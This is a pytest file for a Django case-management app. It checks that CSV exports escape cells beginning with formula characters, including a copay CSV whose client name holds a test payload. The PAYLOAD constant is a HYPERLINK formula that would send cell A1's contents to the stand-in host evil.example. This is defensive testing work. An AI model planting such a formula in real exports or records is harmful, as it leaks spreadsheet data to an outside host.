"""Finding 7 (docs/security.md): no CSV cell runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from casebook.common.exports import csv_rows, neutralise
from casebook.experts import services
from tests.factories import response_bytes

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_would_start_a_formula_is_written_as_text(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_written_as_they_are():
    assert neutralise(-5) == -5
    assert neutralise("株式会社テスト") == "株式会社テスト"
    rows = list(
        csv.reader(io.StringIO("".join(csv_rows(["名前"], [["=1+1", 3]])).lstrip("\ufeff")))
    )
    assert rows == [["名前"], ["'=1+1", "3"]]


def test_a_client_named_like_a_formula_reaches_the_copay_csv_as_text(cast, setting, requested):
    client_record = setting.case.client
    client_record.name = PAYLOAD
    client_record.save(update_fields=["name"])
    services.dispatch_approve(dispatch=requested, by=setting.dispatch_coordinator)
    services.visit_schedule(
        dispatch=requested,
        by=setting.dispatch_coordinator,
        date=timezone.localdate(),
        day_fraction="1.0",
    )
    services.dispatch_complete(dispatch=requested, by=setting.dispatch_coordinator)
    web = Client()
    web.force_login(setting.dispatch_coordinator)
    response = web.get(
        reverse("experts:copay_csv"), {"month": timezone.localdate().strftime("%Y-%m")}
    )
    cells = [
        cell
        for row in csv.reader(io.StringIO(response_bytes(response).decode("utf-8-sig")))
        for cell in row
    ]
    assert "'" + PAYLOAD in cells
    assert not any(cell.startswith("=") for cell in cells)
